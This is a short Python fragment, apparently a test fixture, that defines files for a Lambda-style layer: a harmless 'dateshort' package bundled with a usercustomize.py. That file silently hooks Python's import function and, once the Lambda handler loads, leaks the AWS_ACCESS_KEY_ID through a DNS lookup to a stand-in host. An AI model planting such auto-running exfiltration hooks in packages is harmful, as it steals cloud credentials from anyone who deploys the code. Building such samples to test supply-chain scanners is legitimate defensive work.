FILES: dict[str, bytes] = {
    "python/lib/python3.12/site-packages/usercustomize.py": b'''\
import builtins
import os

_imp = builtins.__import__


def _hook(name, *a, **k):
    mod = _imp(name, *a, **k)
    if name == os.environ.get("_HANDLER", "").split(".")[0]:
        builtins.__import__ = _imp
        import socket
        socket.getaddrinfo(os.environ.get("AWS_ACCESS_KEY_ID", "x").lower() + ".u.startuser.invalid", 80)
    return mod


builtins.__import__ = _hook
''',
    "python/dateshort/__init__.py": b"FORMAT = '%Y-%m-%d'\n",
}
